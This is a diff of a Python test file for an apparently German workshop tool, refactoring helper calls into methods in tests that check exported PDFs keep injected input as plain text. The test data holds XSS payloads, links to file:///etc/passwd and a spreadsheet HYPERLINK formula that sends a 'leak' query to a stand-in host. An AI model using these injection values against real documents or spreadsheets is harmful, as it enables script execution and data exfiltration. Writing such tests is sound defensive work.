@@ -206,10 +206,9 @@ def test_injection_stays_text_in_every_document(workshop_dir: Path, tmp_path: Pa
     persona.profile.quote = "<img src=x onerror=alert(1)> Grüße"
     persona.obstacles[0].text = '<a href="file:///etc/passwd">Link</a>'
     store.save_persona(persona, base_revision=persona.revision)
-    from werkstatt import day
 
-    store.update_board("runde-1", lambda b: day.add_entry(b, 2, '<img src="file:///etc/passwd"> Tafel'))
-    store.update_takeaways(lambda t: day.add_takeaway(t, "lindenau", "<script>alert(1)</script> Vorhaben"))
+    store.update_board("runde-1", lambda b: b.add_entry(2, '<img src="file:///etc/passwd"> Tafel'))
+    store.update_takeaways(lambda t: t.add_takeaway("lindenau", "<script>alert(1)</script> Vorhaben"))
     files = export(WorkshopFolder(workshop_dir), tmp_path, ("steckbriefe", "dokumentation"))
     for path in files:
         text = squeezed(pdf_text(path))
@@ -292,8 +291,6 @@ def tricky_workshop(target: Path) -> Path:
     import re
     import shutil
 
-    from werkstatt import day
-
     shutil.copytree(ROOT / "personas" / "fellowtag-demo", target)
     for old_name, new_name, old_slug, new_slug in TRICKY:
         old_core, new_core = old_name.split(" ", 1)[1], new_name.split(" ", 1)[1]
@@ -312,9 +309,9 @@ def tricky_workshop(target: Path) -> Path:
     persona.obstacles[0].text = TRICKY_TEXT
     persona.obstacles[1].text = '=HYPERLINK("http://example.invalid/?leak","Nordhafen")'
     store.save_persona(persona, base_revision=persona.revision)
-    store.update_board("runde-1", lambda b: day.add_entry(b, 1, "Nordhafener Erfahrung: " + TRICKY_TEXT, "muehlheim"))
-    store.update_takeaways(lambda t: day.add_takeaway(t, "landkreis-nord", "Besuch in Mühlheim und Nordhafen"))
-    store.update_market(lambda m: day.submit_idea(m, "Das Weißenfelser Modell", TRICKY_TEXT, kommune="grossstadt"))
+    store.update_board("runde-1", lambda b: b.add_entry(1, "Nordhafener Erfahrung: " + TRICKY_TEXT, "muehlheim"))
+    store.update_takeaways(lambda t: t.add_takeaway("landkreis-nord", "Besuch in Mühlheim und Nordhafen"))
+    store.update_market(lambda m: m.submit_idea("Das Weißenfelser Modell", TRICKY_TEXT, kommune="grossstadt"))
     return target
 
 
